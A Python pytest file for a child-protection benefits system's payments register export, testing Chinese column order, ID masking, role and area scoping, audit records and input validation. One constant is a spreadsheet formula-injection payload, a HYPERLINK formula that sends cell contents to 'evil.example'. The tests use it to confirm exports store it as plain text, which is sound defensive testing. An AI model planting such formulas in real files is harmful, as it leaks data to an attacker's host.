"""The payments register (补贴发放台账): benefit payments record by record, in Chinese column
order, as CSV and XLSX; masked ID numbers unless a county officer states a purpose; the
period as the statistics count it; scope, roles, bad input and the audit row's count."""

from __future__ import annotations

import csv
import io
import uuid

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from childprotect_api.models.audit import AuditEvent
from childprotect_api.services.children import id_numbers
from childprotect_api.services.registers.kinds import REGISTERS
from tests.benefits.benefit_helpers import PAYMENTS, payment_item
from tests.conftest import (
    COUNTY,
    COUNTY_OTHER,
    TOWNSHIP,
    TOWNSHIP_OTHER,
    VILLAGE,
    VILLAGE_OTHER_COUNTY,
    VILLAGE_OTHER_TOWNSHIP,
    VILLAGE_SAME_TOWNSHIP,
)
from tests.factories import make_child
from tests.integrations.client_helpers import seed_client

URL = "/api/v1/registers/payments"
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"点击")'
COLUMNS = [c.key for c in REGISTERS["payments"].columns]


@pytest.fixture
def settings(settings):  # type: ignore[no-untyped-def]
    return settings.model_copy(update={"rate_limits": {**settings.rate_limits, "export": 1000}})


def _i(key: str) -> int:
    return COLUMNS.index(key)


def _csv(body: bytes) -> list[list[str]]:
    assert body.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


async def _export(client, actor, **params):  # type: ignore[no-untyped-def]
    return await client.get(URL, params=params, headers=actor.headers)


async def _audits(session) -> list[AuditEvent]:  # type: ignore[no-untyped-def]
    rows = await session.execute(
        select(AuditEvent)
        .where(AuditEvent.action == "register.export")  # type: ignore[arg-type]
        .order_by(AuditEvent.id)  # type: ignore[arg-type]
    )
    return list(rows.scalars())


async def _pay(client, headers, *items):  # type: ignore[no-untyped-def]
    r = await client.post(PAYMENTS, json={"items": list(items)}, headers=headers)
    assert r.status_code == 200, r.text
    assert r.json()["errors"] == 0, r.text


@pytest.fixture
async def paid(client, session, settings, world):  # type: ignore[no-untyped-def]
    """Payments in a village, in another village and another township of the county, and in
    another county: two monthly allowances and a one-off grant here."""
    here = await make_child(
        session, settings, VILLAGE, name="王小明", categories=["de_facto_unsupported"]
    )
    neighbour = await make_child(session, settings, VILLAGE_SAME_TOWNSHIP, name="张小燕")
    township = await make_child(
        session, settings, VILLAGE_OTHER_TOWNSHIP, name="李小红", categories=["orphan"]
    )
    elsewhere = await make_child(session, settings, VILLAGE_OTHER_COUNTY, name="赵小刚")
    await _pay(
        client,
        world["officer"].headers,
        payment_item(here.id, period="2026-01", note=FORMULA),
        payment_item(here.id, period="2026-02"),
        payment_item(
            here.id, kind="education_grant", period=None, paid_on="2026-02-20", amount="3100"
        ),
        payment_item(neighbour.id, kind="low_income", period="2026-02", amount="380.5"),
        payment_item(township.id, kind="orphan_allowance", period="2026-01", amount="1400"),
    )
    await _pay(client, world["officer_other_county"].headers, payment_item(elsewhere.id))
    return here, neighbour, township, elsewhere


async def test_payments_csv_in_chinese_order_masked_and_audited(client, session, world, paid):
    r = await _export(client, world["officer"], format="csv")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv")
    rows = _csv(r.content)
    assert rows[0] == [c.zh for c in REGISTERS["payments"].columns]
    assert rows[0][:12] == [
        "序号", "乡镇（街道）", "村（居）", "儿童姓名", "儿童身份证号", "儿童类别",
        "发放项目", "发放类型", "所属月份", "发放日期", "金额（元）", "备注",
    ]  # fmt: skip
    body = rows[1:]
    assert len(body) == 5  # never the other county's payment
    # By area, then month: the village's payments, its neighbour's, the other township's.
    got = [
        (row[_i("child_name")], row[_i("kind")], row[_i("payment_type")], row[_i("month")],
         row[_i("paid_on")], row[_i("amount")])
        for row in body
    ]  # fmt: skip
    assert got == [
        ("王小明", "事实无人抚养儿童基本生活补贴", "月度", "2026-01", "", "1050.00"),
        ("王小明", "事实无人抚养儿童基本生活补贴", "月度", "2026-02", "", "1050.00"),
        ("王小明", "助学金", "一次性", "2026-02", "2026-02-20", "3100.00"),
        ("张小燕", "低保金", "月度", "2026-02", "", "380.50"),
        ("李小红", "孤儿基本生活费", "月度", "2026-01", "", "1400.00"),
    ]
    assert [row[0] for row in body] == ["1", "2", "3", "4", "5"]
    assert body[0][_i("child_categories")] == "事实无人抚养儿童"
    assert body[0][_i("note")] == "'" + FORMULA  # text, never a formula
    assert body[0][_i("entered_by")] == "officer"
    assert body[4][_i("village")] != body[0][_i("village")]
    for row in body:
        number = row[_i("child_id_number")]
        assert len(number) == 18 and "*" * 10 in number
        assert uuid.UUID(row[_i("id")])
    assert r.headers["x-childprotect-row-count"] == "5"
    [event] = await _audits(session)
    assert (event.row_count, event.purpose, event.area_code) == (5, None, COUNTY)
    assert event.resource_type == "register_payments"
    assert event.actor_id == world["officer"].id


async def test_payments_workbook_holds_text_and_amounts(client, session, world, paid):
    r = await _export(client, world["officer"], area=VILLAGE)
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats")
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws.title == "补贴发放台账"
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == [c.zh for c in REGISTERS["payments"].columns]
    assert len(rows) == 4
    note = rows[1][_i("note")]
    assert (note.value, note.data_type) == (FORMULA, "s")
    month = rows[1][_i("month")]
    assert (month.value, month.data_type) == ("2026-01", "s")  # a date as text
    assert rows[3][_i("paid_on")].value == "2026-02-20"
    assert [row[_i("amount")].value for row in rows[1:]] == [1050, 1050, 3100]
    assert "*" * 10 in rows[1][_i("child_id_number")].value
    [event] = await _audits(session)
    assert (event.row_count, event.area_code) == (3, VILLAGE)


async def test_a_county_officer_with_a_purpose_sees_id_numbers_in_full(
    client, session, settings, world, paid
):
    full = id_numbers.reveal(settings.data_key, paid[0].id_number_enc)
    r = await _export(client, world["officer"], format="csv", area=VILLAGE, purpose="核对发放名单")
    assert r.status_code == 200, r.text
    assert {row[_i("child_id_number")] for row in _csv(r.content)[1:]} == {full}
    [event] = await _audits(session)
    assert (event.row_count, event.purpose) == (3, "核对发放名单")
    r = await _export(client, world["supervisor"], format="csv", purpose="核对发放名单")
    assert r.status_code == 403
    assert r.headers["content-type"].startswith("application/problem+json")
    assert len(await _audits(session)) == 1


async def test_the_period_counts_a_month_or_the_day_paid(client, world, paid):
    # February: the monthly payments of February and the one-off paid on the 20th.
    r = await _export(client, world["officer"], format="csv", **{"from": "2026-02-01"})
    got = [(row[_i("month")], row[_i("paid_on")]) for row in _csv(r.content)[1:]]
    assert got == [("2026-02", ""), ("2026-02", "2026-02-20"), ("2026-02", "")]
    # Up to 19 February: the one-off is not in it, February's monthly payments are.
    r = await _export(
        client, world["officer"], format="csv", **{"from": "2026-02-01", "to": "2026-02-19"}
    )
    assert [row[_i("payment_type")] for row in _csv(r.content)[1:]] == ["月度", "月度"]
    r = await _export(client, world["officer"], format="csv", to="2025-12-31")
    assert len(_csv(r.content)) == 1


async def test_a_supervisor_exports_their_township_only(client, session, world, paid):
    r = await _export(client, world["supervisor"], format="csv")
    assert r.status_code == 200, r.text
    names = [row[_i("child_name")] for row in _csv(r.content)[1:]]
    assert names == ["王小明", "王小明", "王小明", "张小燕"]
    r = await _export(client, world["supervisor_other_township"], format="csv")
    assert [row[_i("child_name")] for row in _csv(r.content)[1:]] == ["李小红"]
    # Another township, another county, or an area that does not exist: 404.
    for actor, area in (
        ("supervisor", TOWNSHIP_OTHER),
        ("supervisor", VILLAGE_OTHER_TOWNSHIP),
        ("supervisor", COUNTY),
        ("supervisor_other_county", VILLAGE),
        ("officer", COUNTY_OTHER),
        ("officer", VILLAGE_OTHER_COUNTY),
        ("officer", "620722100999"),
    ):
        r = await _export(client, world[actor], area=area)
        assert r.status_code == 404, (actor, area, r.text)
        assert r.headers["content-type"].startswith("application/problem+json")
    # The other county's officer: only its own payment.
    r = await _export(client, world["officer_other_county"], format="csv")
    assert [row[_i("child_name")] for row in _csv(r.content)[1:]] == ["赵小刚"]
    assert [e.row_count for e in await _audits(session)] == [4, 1, 1]


@pytest.mark.parametrize("actor", ["director", "reporter", "auditor", "admin"])
async def test_roles_that_may_not_export_payments_get_403(client, session, world, actor):
    r = await _export(client, world[actor], area=TOWNSHIP)
    assert r.status_code == 403, r.text
    assert r.headers["content-type"].startswith("application/problem+json")
    assert await _audits(session) == []


async def test_a_subsidies_client_may_not_export_registers(client, session, settings, world):
    c = await seed_client(session, settings, scopes={"subsidies:write"}, area=COUNTY)
    r = await client.get(URL, params={"area": COUNTY}, headers=c.headers)
    assert r.status_code == 403, r.text
    assert await _audits(session) == []


async def test_a_payment_written_by_a_client_names_the_integration(
    client, session, settings, world
):
    child = await make_child(session, settings, VILLAGE)
    c = await seed_client(session, settings, scopes={"subsidies:write"}, area=COUNTY)
    await _pay(client, c.headers, payment_item(child.id, amount="600"))
    r = await _export(client, world["officer"], format="csv")
    [row] = _csv(r.content)[1:]
    assert (row[_i("entered_by")], row[_i("amount")]) == ("数据接口", "600.00")


@pytest.mark.parametrize(
    "params",
    [
        {"format": "pdf"},
        {"category": "orphan"},
        {"from": "2026-05-02", "to": "2026-05-01"},
        {"from": "2026-13-01"},
        {"to": "not-a-date"},
        {"area": "62072210000"},
        {"purpose": "x" * 501},
        {"purpose": "   "},
    ],
)
async def test_bad_input_is_a_problem_not_a_500(client, session, world, params):
    r = await _export(client, world["officer"], **params)
    assert r.status_code == 422, r.text
    assert r.headers["content-type"].startswith("application/problem+json")
    assert await _audits(session) == []
